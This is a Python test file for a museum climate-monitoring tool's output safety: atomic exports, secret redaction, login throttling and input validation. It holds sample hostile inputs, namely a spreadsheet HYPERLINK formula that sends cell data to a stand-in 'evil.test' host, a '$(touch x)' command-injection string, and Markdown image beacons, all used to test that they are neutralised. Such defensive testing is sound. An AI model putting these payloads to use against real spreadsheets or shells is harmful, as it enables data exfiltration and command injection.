"""Issue 20, safe outputs: what Patina writes, shows and sends never hurts the person using
it. Files, text fields, spreadsheet formulas, secrets, input errors, login and links, each
against the real parts (InfluxDB, Mosquitto, an HTTP server, the CLI in a subprocess)."""

from __future__ import annotations

import csv
import json
import os
import re
import shlex
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from museum.description.config import ConfigError, MuseumConfig
from museum.files.export import ExportError, ExportRequest, export
from museum.storage.lineprotocol import encode_point
from museum.storage.schema import AlertEvent, alert_event_line
from museum.storage.store import InfluxStore
from museum.storage.stores import open_store
from patina.services import InfluxServer, MosquittoServer
from tests.helpers import wait_until_drawn
from tests.test_export import START, seed

SCREENSHOTS_DIR = Path(
    os.environ.get("PATINA_SCREENSHOT_DIR", Path(__file__).resolve().parent.parent / "test-artifacts")
)
NASTY_NOTE = 'Gel changed.\nDoor: re-sealed\r\nCRLF, 100% done ␞ \\ "quoted"\n\n'


def run_patina(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "patina", *args],
        capture_output=True,
        text=True,
        env={**os.environ, **(env or {})},
        timeout=120,
    )


def patina_env(config: MuseumConfig) -> dict[str, str]:
    return {"PATINA_INFLUX_URL": config.influxdb.url, "PATINA_INFLUX_DB": config.influxdb.database}


def assert_one_line_error(result: subprocess.CompletedProcess[str], *expected: str) -> None:
    assert result.returncode != 0, result.stdout
    assert "Traceback" not in result.stderr, result.stderr
    message = [line for line in result.stderr.splitlines() if line.startswith("Error")]
    assert len(message) == 1, result.stderr
    for text in expected:
        assert text in message[0], result.stderr


def open_alert(store: InfluxStore, alert_id: str = "C1.rh_high.X", case_id: str = "C1") -> None:
    store.create_database()
    store.write_lines(
        [
            alert_event_line(
                AlertEvent(
                    time.time_ns() - 600 * 10**9,  # the alert log is read a year back
                    site="hanoi",
                    case_id=case_id,
                    alert_id=alert_id,
                    rule="rh_high",
                    rule_key="rh_high",
                    severity="warning",
                    state="opened",
                    value=-5.0,
                    threshold=25.0,
                )
            )
        ]
    )


# --- 1. files -----------------------------------------------------------------------------
def test_an_empty_export_never_deletes_files_it_did_not_create(
    tmp_path: Path, make_config: Callable[..., MuseumConfig], store_for: Callable[[MuseumConfig], InfluxStore]
) -> None:
    config = make_config()
    seed(store_for(config), minutes=60)
    folder = tmp_path / "d"
    folder.mkdir()
    earlier = {
        "thesis.csv": "".join(f"line {n}\n" for n in range(617)),
        "thesis.datapackage.json": '{"earlier": true}',
        "thesis.alerts.csv": "earlier alerts\n",
        "datapackage.json": '{"someone else": true}',
    }
    for name, text in earlier.items():
        (folder / name).write_text(text)
    empty = ExportRequest(
        start=START - timedelta(days=400), end=START - timedelta(days=399), include=["alerts"]
    )
    with pytest.raises(ExportError, match=r"already exist.*--force"):
        export(config, empty, folder / "thesis.csv")
    with pytest.raises(ExportError, match="no readings"):
        export(config, empty, folder / "thesis.csv", force=True)
    assert {p.name: p.read_text() for p in folder.iterdir()} == earlier  # untouched, no temporaries


def test_a_successful_export_replaces_only_with_force_and_keeps_other_exports_metadata(
    tmp_path: Path, make_config: Callable[..., MuseumConfig], store_for: Callable[[MuseumConfig], InfluxStore]
) -> None:
    config = make_config()
    seed(store_for(config), minutes=120)
    tmp_path = tmp_path / "exports"
    request = ExportRequest(start=START, end=START + timedelta(hours=1))
    first = export(
        config,
        ExportRequest(start=START, end=START + timedelta(hours=1), case_ids=["C1"]),
        tmp_path / "first.csv",
    )
    second = export(
        config,
        ExportRequest(start=START, end=START + timedelta(hours=1), case_ids=["C2"]),
        tmp_path / "second.csv",
    )
    assert [p.name for p in first.files] == ["first.csv", "first.datapackage.json"]
    assert [p.name for p in second.files] == ["second.csv", "second.datapackage.json"]
    for name in ("first", "second"):
        package = json.loads((tmp_path / f"{name}.datapackage.json").read_text())
        assert [r["path"] for r in package["resources"]] == [f"{name}.csv"]
    before = (tmp_path / "first.csv").read_text()
    with pytest.raises(ExportError, match=r"first\.csv, .*first\.datapackage\.json already exist"):
        export(config, request, tmp_path / "first.csv")
    assert (tmp_path / "first.csv").read_text() == before
    replaced = export(config, request, tmp_path / "first.csv", force=True)
    assert replaced.rows == 12 and (tmp_path / "first.csv").read_text() != before
    assert sorted(p.name for p in tmp_path.iterdir()) == [
        "first.csv",
        "first.datapackage.json",
        "second.csv",
        "second.datapackage.json",
    ]


@pytest.fixture
def failing_database() -> Iterator[str]:
    """An HTTP server that answers InfluxDB's ping and fails every query (a server that
    breaks during an export)."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(204 if self.path.startswith("/ping") else 500)
            self.end_headers()

        def do_POST(self) -> None:
            self.rfile.read(int(self.headers.get("Content-Length") or 0))
            self.send_response(500)
            self.end_headers()
            self.wfile.write(b"out of memory")

        def log_message(self, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()


def test_an_export_that_fails_never_truncates_the_file_it_would_replace(
    tmp_path: Path, make_config: Callable[..., MuseumConfig], failing_database: str
) -> None:
    from museum.storage.store import StoreError

    config = make_config()
    target = tmp_path / "out" / "thesis.csv"
    target.parent.mkdir()
    target.write_text("".join(f"row {n}\n" for n in range(617)))
    store = InfluxStore(failing_database, "patina")
    with pytest.raises((ExportError, StoreError), match="out of memory"):
        export(
            config,
            ExportRequest(start=START, end=START + timedelta(hours=1)),
            target,
            store=store,
            force=True,
        )
    assert target.read_text().count("\n") == 617
    assert [p.name for p in target.parent.iterdir()] == ["thesis.csv"]


def test_a_write_that_fails_half_way_leaves_the_old_file_whole(tmp_path: Path) -> None:
    from museum.files.staging import OutputError, Staging

    target = tmp_path / "loan.pdf"
    target.write_bytes(b"the signed report, 617 lines\n" * 617)
    staging = Staging([target], force=True)
    with staging.path(target).open("wb") as handle:
        handle.write(b"half")  # a crash here: the target is still the old file
    assert target.read_bytes() == b"the signed report, 617 lines\n" * 617
    staging.discard()
    assert [p.name for p in tmp_path.iterdir()] == ["loan.pdf"]
    with pytest.raises(OutputError, match="is not a regular file"):
        Staging([Path("/dev/full")], force=True)


def test_report_and_export_commands_refuse_to_overwrite_without_force(
    tmp_path: Path, make_config: Callable[..., MuseumConfig], store_for: Callable[[MuseumConfig], InfluxStore]
) -> None:
    config = make_config()
    seed(store_for(config), minutes=6 * 60)
    env = patina_env(config)
    report = tmp_path / "loan.html"
    report.write_text("signed copy")
    args = [
        "report",
        "--config",
        str(config.path),
        "--case",
        "C1",
        "--start",
        "2025-10-25T07:00",
        "--end",
        "2025-10-25T13:00",
        "--out",
        str(report),
    ]
    assert_one_line_error(run_patina(*args, env=env), "--out", "already exists", "--force")
    assert report.read_text() == "signed copy"
    replaced = run_patina(*args, "--force", env=env)
    assert replaced.returncode == 0, replaced.stderr
    assert "<html" in report.read_text()
    data = tmp_path / "thesis.csv"
    data.write_text("mine\n")
    export_args = [
        "export",
        "--config",
        str(config.path),
        "--start",
        "2025-10-25T07:00",
        "--end",
        "2025-10-25T08:00",
        "--out",
        str(data),
    ]
    assert_one_line_error(run_patina(*export_args, env=env), "--out", "--force")
    assert data.read_text() == "mine\n"
    assert run_patina(*export_args, "--force", env=env).returncode == 0
    assert data.read_text().startswith("time,site,case_id")
    full = run_patina(*export_args[:-1], "/dev/full", "--force", env=env)
    assert_one_line_error(full, "--out", "/dev/full", "not a regular file")


# --- 2. notes on several lines --------------------------------------------------------------
@pytest.mark.parametrize(
    "text", [NASTY_NOTE, "plain", "", "%0A literal", "\u241estarts with the mark", "x" * 20_000]
)
def test_text_encoding_is_reversible(text: str) -> None:
    from museum.storage.lineprotocol import decode_text, encode_text

    encoded = encode_text(text)
    assert "\n" not in encoded and "\r" not in encoded
    assert decode_text(encoded) == text


def test_a_note_on_several_lines_is_stored_exactly_and_acknowledges(
    make_config: Callable[..., MuseumConfig], store_for: Callable[[MuseumConfig], InfluxStore]
) -> None:
    config = make_config()
    store = store_for(config)
    open_alert(store)
    store.acknowledge_alert("C1.rh_high.X", "Lan\nNguyễn", NASTY_NOTE)
    last = store.alert_events("C1.rh_high.X").iloc[-1]
    assert (last["state"], last["user"], last["note"]) == ("acknowledged", "Lan\nNguyễn", NASTY_NOTE)
    # From the command line too, and listed on one line per alert.
    open_alert(store, "C1.rh_high.Y")
    env = patina_env(config)
    done = run_patina(
        "alerts",
        "ack",
        "--config",
        str(config.path),
        "C1.rh_high.Y",
        "--user",
        "lan",
        "--note",
        "first line\nsecond line",
        env=env,
    )
    assert done.returncode == 0, done.stderr
    assert store.alert_events("C1.rh_high.Y").iloc[-1]["note"] == "first line\nsecond line"
    listed = run_patina("alerts", "list", "--config", str(config.path), env=env)
    assert "first line / second line" in listed.stdout


def test_an_empty_user_or_note_is_refused(
    make_config: Callable[..., MuseumConfig], store_for: Callable[[MuseumConfig], InfluxStore]
) -> None:
    config = make_config()
    store = store_for(config)
    open_alert(store)
    env = patina_env(config)
    for user, note, option in (("", "why", "--user"), ("lan", "   ", "--note"), ("\n", "x", "--user")):
        result = run_patina(
            "alerts",
            "ack",
            "--config",
            str(config.path),
            "C1.rh_high.X",
            "--user",
            user,
            "--note",
            note,
            env=env,
        )
        assert_one_line_error(result, option, "must not be empty")
    assert list(store.alert_events("C1.rh_high.X")["state"]) == ["opened"]


# --- 3. spreadsheet formulas --------------------------------------------------------------
FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"click")'


def test_formulas_in_text_cells_are_neutralised_and_numbers_stay_numbers(
    tmp_path: Path, make_config: Callable[..., MuseumConfig], store_for: Callable[[MuseumConfig], InfluxStore]
) -> None:
    from openpyxl import load_workbook

    config = make_config()
    store = store_for(config)
    seed(store, minutes=60)
    open_alert(store)
    store.acknowledge_alert("C1.rh_high.X", "@lan", FORMULA)
    end = datetime.now(UTC) + timedelta(hours=1)  # the readings of START and the alert of now
    request = ExportRequest(start=START, end=end, include=["alerts"], case_ids=["C1"])
    export(config, request, tmp_path / "a.csv")
    with (tmp_path / "a.alerts.csv").open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    acknowledged = next(r for r in rows if r["state"] == "acknowledged")
    assert acknowledged["note"] == "'" + FORMULA and acknowledged["user"] == "'@lan"
    assert next(r for r in rows if r["state"] == "opened")["value"] == "-5.0"  # a number, unprefixed

    export(config, ExportRequest(**{**request.__dict__, "format": "xlsx"}), tmp_path / "a.xlsx")
    sheet = load_workbook(tmp_path / "a.xlsx")["alerts"]
    header = [c.value for c in sheet[1]]
    cells = {name: [row[i] for row in sheet.iter_rows(min_row=2)] for i, name in enumerate(header)}
    notes = [c for c in cells["note"] if c.value]
    assert [c.value for c in notes] == ["'" + FORMULA] and notes[0].data_type == "s"
    values = [c for c in cells["value"] if c.value is not None]
    assert [c.value for c in values] == [-5.0] and values[0].data_type == "n"
    climate = load_workbook(tmp_path / "a.xlsx")["climate"]
    temperatures = [row[4] for row in climate.iter_rows(min_row=2)]
    assert len(temperatures) == 6 and all(c.data_type == "n" for c in temperatures)


# --- 4. secrets -----------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("url", "shown"),
    [
        ("http://admin:pw@127.0.0.1:8086", "http://admin:***@127.0.0.1:8086"),
        ("mqtt://user:p%40ss@broker:1883", "mqtt://user:***@broker:1883"),
        ("https://hooks.test/services/x?token=SECRET", "https://hooks.test/services/x?***"),
        ("https://SECRET@hooks.test/x", "https://***@hooks.test/x"),
        ("http://127.0.0.1:8086", "http://127.0.0.1:8086"),
    ],
)
def test_redact_url(url: str, shown: str) -> None:
    from museum.description.secrets import redact_url

    assert redact_url(url) == shown


def test_status_and_errors_never_show_the_influx_password(
    make_config: Callable[..., MuseumConfig], influxdb: InfluxServer
) -> None:
    config = make_config()
    open_store(config.influxdb).create_database()
    secret_url = influxdb.url.replace("http://", "http://admin:pw-s3cret@")
    status = run_patina(
        "status",
        "--config",
        str(config.path),
        env={"PATINA_INFLUX_URL": secret_url, "PATINA_INFLUX_DB": config.influxdb.database},
    )
    assert "pw-s3cret" not in status.stdout + status.stderr
    assert "admin:***@" in status.stdout + status.stderr
    dead = run_patina(
        "status",
        "--config",
        str(config.path),
        env={"PATINA_INFLUX_URL": "http://admin:pw-s3cret@127.0.0.1:9"},
    )
    assert "pw-s3cret" not in dead.stdout + dead.stderr
    assert "admin:***@127.0.0.1:9" in dead.stdout + dead.stderr


def test_the_dashboard_error_never_shows_the_influx_password(
    make_config: Callable[..., MuseumConfig], monkeypatch: pytest.MonkeyPatch
) -> None:
    from streamlit.testing.v1 import AppTest

    from tests.test_dashboard import APP

    config = make_config()
    monkeypatch.setenv("PATINA_CONFIG", str(config.path))
    monkeypatch.setenv("PATINA_INFLUX_URL", "http://admin:pw-s3cret@127.0.0.1:9")
    app = AppTest.from_file(APP, default_timeout=30).run()
    errors = [str(e.value) for e in app.error]
    assert errors and all("pw-s3cret" not in e for e in errors)
    assert any("admin:\\*\\*\\*@127.0.0.1:9" in e or "admin:***@127.0.0.1:9" in e for e in errors)


def test_mqtt_credentials_in_the_url_are_used_and_refused_in_the_file(
    tmp_path: Path, make_config: Callable[..., MuseumConfig], store_for: Callable[[MuseumConfig], InfluxStore]
) -> None:
    from tests.test_security import assert_stores_one_reading

    passwords = tmp_path / "passwd"
    subprocess.run(["mosquitto_passwd", "-c", "-b", str(passwords), "patina", "s3cret words"], check=True)
    broker = MosquittoServer(
        tmp_path / "broker", settings={"allow_anonymous": "false", "password_file": str(passwords)}
    )
    broker.start()
    try:
        url = broker.url.replace("mqtt://", "mqtt://patina:s3cret%20words@")
        config = make_config(environ={"PATINA_MQTT_URL": url})
        assert (config.mqtt.username, config.mqtt.password) == ("patina", "s3cret words")
        assert "s3cret" not in config.mqtt.url
        assert_stores_one_reading(
            config, store_for(config), ["-p", str(broker.port), "-u", "patina", "-P", "s3cret words"]
        )
    finally:
        broker.stop()
    from tests.conftest import SMALL_MUSEUM

    in_file = SMALL_MUSEUM.replace('url = "mqtt://127.0.0.1:1"', 'url = "mqtt://patina:pw@127.0.0.1:1"')
    with pytest.raises(ConfigError, match=r"mqtt://patina:\*\*\*@.*PATINA_MQTT_USERNAME") as error:
        make_config(in_file, environ={"PATINA_MQTT_URL": ""})
    assert "pw@" not in str(error.value)
    smtp = in_file.replace("mqtt://patina:pw@", "mqtt://") + (
        '\n[notify.email]\nsmtp_url = "smtp://mailer:pw@127.0.0.1:25"\nto = ["a@b.test"]\n'
    )
    with pytest.raises(ConfigError, match=r"smtp://mailer:\*\*\*@.*PATINA_SMTP_USERNAME"):
        make_config(smtp)
    with pytest.raises(ConfigError, match="give them once"):
        make_config(environ={"PATINA_MQTT_URL": "mqtt://a:b@127.0.0.1:1", "PATINA_MQTT_USERNAME": "c"})


@pytest.fixture
def failing_webhook() -> Iterator[tuple[list[str], int]]:
    paths: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            self.rfile.read(int(self.headers["Content-Length"]))
            paths.append(self.path)
            self.send_response(403)
            self.end_headers()

        def log_message(self, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield paths, server.server_address[1]
    server.shutdown()


def notification(case_id: str = "C1", alert_id: str = "C1.rh_high.X") -> object:
    from collector.alerts import Notification

    return Notification(
        kind="opened",
        alert_id=alert_id,
        case=None,
        rule="rh_high",  # type: ignore[arg-type]
        subject_key="rh_high",
        severity="warning",
        value=30.0,
        threshold=25.0,
        source="s1",
        since_s=time.time(),
    )


def test_the_webhook_url_comes_from_the_environment_and_its_token_is_never_recorded(
    make_config: Callable[..., MuseumConfig],
    failing_webhook: tuple[list[str], int],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    import dataclasses

    import collector.notify as notify_module
    from collector.notify import Notifier

    paths, port = failing_webhook
    config = make_config(environ={"PATINA_WEBHOOK_URL": f"http://127.0.0.1:{port}/hook?token=SECRET-T0KEN"})
    assert config.notify.webhook_url is not None and "SECRET-T0KEN" not in repr(config.notify)
    monkeypatch.setattr(notify_module, "RETRY_DELAYS_S", ())  # one try: the test is about the record
    failures: list[tuple[str, str]] = []
    notifier = Notifier(
        config, on_failure=lambda n, channel, reason, time_s: failures.append((channel, reason))
    )
    notifier.send(dataclasses.replace(notification(), case=config.case("C1")))  # type: ignore[type-var]
    assert paths == ["/hook?token=SECRET-T0KEN"]  # it was used
    assert failures == [("webhook", "HTTP 403")]  # and not recorded


# --- 6. input errors --------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("args", "expected"),
    [
        (["--timezone", "Europe/Paris", "--start", "2026-03-29T02:30"], ["--start", "does not exist"]),
        (
            ["--timezone", "Europe/Paris", "--start", "2026-10-25T02:30"],
            ["--start", "happens twice", "+02:00"],
        ),
        (["--start", "0001-01-01"], ["--start", "1900-01-01", "2200-01-01"]),
        (["--end", "9999-12-31"], ["--end", "1900-01-01", "2200-01-01"]),
        (["--every", "100000d"], ["--every", "1 s", "366 d"]),
        (["--every", "0.5s"], ["--every", "whole seconds"]),
        (["--every", "0s"], ["--every", "1 s"]),
    ],
)
def test_export_input_errors_are_one_line(
    args: list[str], expected: list[str], tmp_path: Path, make_config: Callable[..., MuseumConfig]
) -> None:
    config = make_config()
    open_store(config.influxdb).create_database()  # errors come from the input
    base = {"--start": "2026-03-28T00:00", "--end": "2026-03-30T00:00"}
    for option, value in zip(args[::2], args[1::2], strict=True):
        base[option] = value
    flat = [item for pair in base.items() for item in pair]
    out = tmp_path / "out"
    result = run_patina(
        "export", "--config", str(config.path), *flat, "--out", str(out / "x.csv"), env=patina_env(config)
    )
    assert_one_line_error(result, *expected)
    assert not out.exists()


def test_an_export_from_a_missing_database_is_one_line(
    tmp_path: Path, make_config: Callable[..., MuseumConfig]
) -> None:
    config = make_config()  # its database was never created
    result = run_patina(
        "export",
        "--config",
        str(config.path),
        "--start",
        "2025-10-25",
        "--end",
        "2025-10-26",
        "--out",
        str(tmp_path / "out" / "x.csv"),
        env=patina_env(config),
    )
    assert_one_line_error(result, "database not found")
    assert not (tmp_path / "out" / "x.csv").exists()


@pytest.mark.parametrize(
    ("args", "expected"),
    [
        (["--start", "0001-01-01"], ["--start", "1900-01-01"]),
        (["--rh", "nan±5"], ["--rh", "0…100"]),
        (["--rh", "45±-5"], ["--rh", "tolerance above 0"]),
        (["--rh", "45±5", "--temperature", "inf±1"], ["--temperature", "-50…80"]),
        (["--rh", "45±5", "--max-rh-change", "-1"], ["--max-rh-change"]),
    ],
)
def test_report_input_errors_are_one_line(
    args: list[str], expected: list[str], tmp_path: Path, make_config: Callable[..., MuseumConfig]
) -> None:
    config = make_config()
    open_store(config.influxdb).create_database()  # errors come from the input
    base = ["--start", "2025-10-25", "--end", "2025-10-26"]
    if args[0] == "--start":
        base, args = ["--start", args[1], "--end", "2025-10-26"], args[2:]
    out = tmp_path / "out"
    result = run_patina(
        "report",
        "--config",
        str(config.path),
        "--case",
        "C1",
        *base,
        *args,
        "--out",
        str(out / "r.html"),
        env=patina_env(config),
    )
    assert_one_line_error(result, *expected)
    assert not out.exists()


def test_analyse_turns_any_reader_failure_into_one_line(tmp_path: Path) -> None:
    fake = tmp_path / "logger.xlsx"
    fake.write_text("this is not a spreadsheet\n")
    import zipfile

    not_a_workbook = tmp_path / "archive.xlsx"
    with zipfile.ZipFile(not_a_workbook, "w") as archive:
        archive.writestr("readme.txt", "a zip, but no workbook inside")
    huge = tmp_path / "huge.csv"
    huge.write_text("time,temperature_c,rh_pct\n2025-01-01T00:00,1e308,50\n2025-01-01T00:10,20,1e308\n")
    single = tmp_path / "single.csv"
    single.write_text("time,temperature_c,rh_pct\n2025-01-01T00:00,1e308,50\n")
    for path in (fake, not_a_workbook, huge, single):
        result = run_patina("analyse", str(path))
        assert "Traceback" not in result.stderr, result.stderr
        if result.returncode != 0:
            assert_one_line_error(result, path.name)


# --- 7. login ---------------------------------------------------------------------------------
def test_failed_sign_ins_delay_further_tries_per_user_and_per_address() -> None:
    from museum.description.users import FREE_FAILURES, LOCK_BASE_S, LoginThrottle

    now = [1000.0]
    throttle = LoginThrottle(clock=lambda: now[0])
    for _ in range(FREE_FAILURES - 1):
        throttle.failed("lan", "10.0.0.1")
        assert throttle.wait_s("lan", "10.0.0.1") == 0  # typing mistakes cost nothing
    throttle.failed("lan", "10.0.0.1")
    assert throttle.wait_s("lan", "10.0.0.1") == LOCK_BASE_S
    assert throttle.wait_s("lan", "10.0.0.2") == LOCK_BASE_S  # the name is locked from anywhere
    assert throttle.wait_s("other", "10.0.0.1") == LOCK_BASE_S  # and the address for any name
    assert throttle.wait_s("other", "10.0.0.2") == 0
    now[0] += LOCK_BASE_S
    throttle.failed("lan", "10.0.0.1")
    assert throttle.wait_s("lan", "10.0.0.9") == 2 * LOCK_BASE_S  # doubling
    for _ in range(30):
        throttle.failed("lan", "10.0.0.1")
    assert throttle.wait_s("lan", "10.0.0.9") == 900.0  # capped
    throttle.succeeded("lan", "10.0.0.1")
    assert throttle.wait_s("lan", "10.0.0.1") == 0
    slower = LoginThrottle(clock=lambda: now[0], lock_s=60.0)  # [dashboard] sign_in_lock = "1m"
    for _ in range(FREE_FAILURES + 1):
        slower.failed("lan", "10.0.0.1")
    assert slower.wait_s("lan", "10.0.0.1") == 120.0


def test_sign_ins_judged_side_by_side_cannot_outrun_the_count() -> None:
    """Each try is counted when it is checked, before its password is (scrypt takes a while):
    tries sent side by side are locked out like tries sent one after another, and a right
    password clears what its own try counted. (Counted only after the password was judged,
    a fourth try could pass the check while the third was still being judged: seen in CI.)"""
    from museum.description.users import FREE_FAILURES, LoginThrottle

    now = [0.0]
    throttle = LoginThrottle(clock=lambda: now[0], lock_s=12.0)
    assert [throttle.attempt("lan", "10.0.0.1") for _ in range(FREE_FAILURES)] == [0.0] * FREE_FAILURES
    assert throttle.attempt("lan", "10.0.0.1") == 12.0  # none of the three has been judged yet
    assert throttle.attempt("lan", "10.0.0.1") == 12.0  # a refused try is not counted again
    now[0] += 12.0
    assert throttle.attempt("lan", "10.0.0.1") == 0.0
    throttle.succeeded("lan", "10.0.0.1")  # the right password
    assert throttle.attempt("lan", "10.0.0.1") == 0.0


def test_unknown_names_cost_one_scrypt_like_known_ones() -> None:
    from museum.description.users import _N, _P, _R, authenticate, dummy_hash, hash_password

    assert dummy_hash().split("$")[1:4] == [str(_N), str(_R), str(_P)]  # the same work
    hashes = {"lan": hash_password("gel bạc 2026")}
    assert authenticate(hashes, "lan", "gel bạc 2026")
    assert not authenticate(hashes, "lan", "guess")
    assert not authenticate(hashes, "nobody", "gel bạc 2026")


# --- 8. links -------------------------------------------------------------------------------
def test_case_links_are_url_encoded_and_the_ack_command_is_shell_quoted(
    make_config: Callable[..., MuseumConfig],
) -> None:
    import dataclasses
    from urllib.parse import parse_qs, urlsplit

    from collector.notify import render, webhook_body
    from museum.language.i18n import Translator

    config = make_config()
    case = dataclasses.replace(config.case("C1"), id="Vitrine A&B #2")
    alert_id = "Vitrine A&B #2.rh_high.$(touch x)"
    note = dataclasses.replace(notification(), case=case, alert_id=alert_id)  # type: ignore[type-var]
    subject, body = render(note, config, Translator("en"))  # type: ignore[arg-type]
    link = next(x for x in body.splitlines() if x.startswith("Dashboard: ")).removeprefix("Dashboard: ")
    assert parse_qs(urlsplit(link).query) == {"case": ["Vitrine A&B #2"], "lang": ["en"]} and "#" not in link
    assert webhook_body(note, config, subject, body)["dashboard_url"] == link  # type: ignore[arg-type]
    command = next(line for line in body.splitlines() if line.startswith("Acknowledge: "))
    words = shlex.split(command.removeprefix("Acknowledge: "))
    assert words[:4] == ["patina", "alerts", "ack", alert_id]


def test_encoded_text_is_what_influxdb_keeps(
    make_config: Callable[..., MuseumConfig], store_for: Callable[[MuseumConfig], InfluxStore]
) -> None:
    from museum.storage.lineprotocol import TEXT_MARK, decode_text

    store = store_for(make_config())
    store.create_database()
    store.write_lines([encode_point("m", {"t": "x"}, {"note": NASTY_NOTE}, 1)])
    stored = store.frame("SELECT note FROM m")["note"].iloc[0]
    assert stored.startswith(TEXT_MARK) and decode_text(stored) == NASTY_NOTE


# --- 2, 5, 7 in a real browser ------------------------------------------------------------------
@pytest.fixture
def image_server() -> Iterator[tuple[list[str], int]]:
    """An HTTP server that records every request: an image a page should never fetch."""
    hits: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            self.send_response(404)
            self.end_headers()

        def log_message(self, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield hits, server.server_address[1]
    server.shutdown()


@pytest.mark.browser
def test_in_the_browser_text_stays_text_notes_keep_their_lines_and_guessing_is_slowed(
    make_config: Callable[..., MuseumConfig],
    store_for: Callable[[MuseumConfig], InfluxStore],
    influxdb: InfluxServer,
    image_server: tuple[list[str], int],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from playwright.sync_api import expect, sync_playwright

    import museum.description.users

    free_failures = getattr(
        museum.description.users, "FREE_FAILURES", 3
    )  # imported so: the file runs on old code
    from tests.test_dashboard import CHROMIUM, launch_chromium, museum_with_users, seed_readings, serve

    if not Path(CHROMIUM).exists():
        pytest.skip("Debian's chromium is not installed")
    hits, port = image_server
    image = f"http://127.0.0.1:{port}"
    text = (
        museum_with_users()
        .replace('name = "Excavated iron"', f'name = "**Bold** ![c]({image}/case.png)"')
        .replace('gallery = "Gallery 1"', f'gallery = "Gallery ![g]({image}/gallery.png)"')
        .replace('name = "Test museum"', f'name = "Museum ![m]({image}/museum.png)"')
        # long enough that no loaded machine outlasts it between two clicks (the default 5 s was
        # outlasted once in CI), short enough to wait for below
        .replace("[dashboard]\n", '[dashboard]\nsign_in_lock = "12s"\n')
    )
    config = make_config(text)
    store = store_for(config)
    seed_readings(config, store)
    open_alert(store, "C1.rh_high.B")
    monkeypatch.setenv("PATINA_INFLUX_URL", influxdb.url)
    monkeypatch.setenv("PATINA_INFLUX_DB", config.influxdb.database)
    note = f"Silica gel replaced.\nDoor re-sealed ![n]({image}/note.png)"
    assert config.path is not None
    with serve(config.path) as url, sync_playwright() as playwright:
        browser = launch_chromium(playwright)
        page = browser.new_page(viewport={"width": 1400, "height": 1000})
        page.goto(url)
        expect(page.get_by_role("heading", name="Display cases")).to_be_visible(timeout=30_000)
        expect(page.get_by_text("**Bold** ![c](").first).to_be_visible(timeout=30_000)
        expect(page.get_by_text("Gallery ![g](").first).to_be_visible()
        wait_until_drawn(page)
        page.goto(f"{url}/case?case=C1")
        expect(page.get_by_role("heading", name="Case C1: **Bold** ![c](")).to_be_visible(timeout=30_000)
        # The whole page, not only its heading: the gallery's name is also in a caption further down
        # (once drawn as Markdown, caught only when the test happened to stay long enough).
        expect(page.get_by_text('add a case with kind = "room" in Gallery ![g](', exact=False)).to_be_visible(
            timeout=30_000
        )
        wait_until_drawn(page)

        page.goto(f"{url}/alerts")
        expect(page.get_by_role("heading", name="Open alerts: 1")).to_be_visible(timeout=30_000)

        def sign_in(password: str, answer: str | re.Pattern[str]) -> None:
            """Try ``password`` until the page gives ``answer``: a click that lands while the
            page is still redrawing the last answer never reaches the dashboard (seen on a
            loaded machine), and each answer differs from the last, so it tells."""
            for _ in range(3):
                page.locator('input[aria-label="Name"]').fill("lan")
                page.locator('input[aria-label="Password"]').fill(password)
                page.get_by_role("button", name="Sign in").click()
                try:
                    expect(page.get_by_text(answer)).to_be_visible(timeout=15_000)
                    wait_until_drawn(page)
                    return
                except AssertionError:
                    continue
            expect(page.get_by_text(answer)).to_be_visible()

        for left in range(free_failures - 1, 0, -1):
            sign_in("guess", f"Unknown name or wrong password. Tries left before a pause: {left}.")
        sign_in("guess", "Unknown name or wrong password. Too many failed sign-ins: try again in 12 s.")
        page.wait_for_timeout(1_100)  # not a wait for the page: the next answer's seconds then differ
        # The right password, at once: refused for a while.
        sign_in("gel bạc 2026", re.compile(r"^Too many failed sign-ins: try again in (1[01]|[1-9]) s\.$"))
        expect(page.get_by_text("Signed in: lan (conservator)")).to_have_count(0)
        # Not a wait for the page: the lock lasts sign_in_lock (12 s) of real time, and outlasting
        # it is the behaviour under test.
        page.wait_for_timeout(12_500)
        sign_in("gel bạc 2026", "Signed in: lan (conservator)")

        page.locator('textarea[aria-label="Note"]').fill(note)
        page.get_by_role("button", name="Acknowledge").click()
        expect(page.get_by_text("C1.rh_high.B acknowledged by lan.")).to_be_visible(timeout=30_000)
        page.goto(f"{url}/alerts")
        expect(page.get_by_text("Door re-sealed ![n](").first).to_be_visible(timeout=30_000)
        wait_until_drawn(page)
        SCREENSHOTS_DIR.mkdir(parents=True, exist_ok=True)
        page.screenshot(path=SCREENSHOTS_DIR / "safe-text-alerts.png", full_page=True)
        browser.close()
    assert hits == []  # no page fetched an image named in a note or the config
    last = store.alert_events("C1.rh_high.B").iloc[-1]
    assert (last["state"], last["user"], last["note"]) == ("acknowledged", "lan", note)
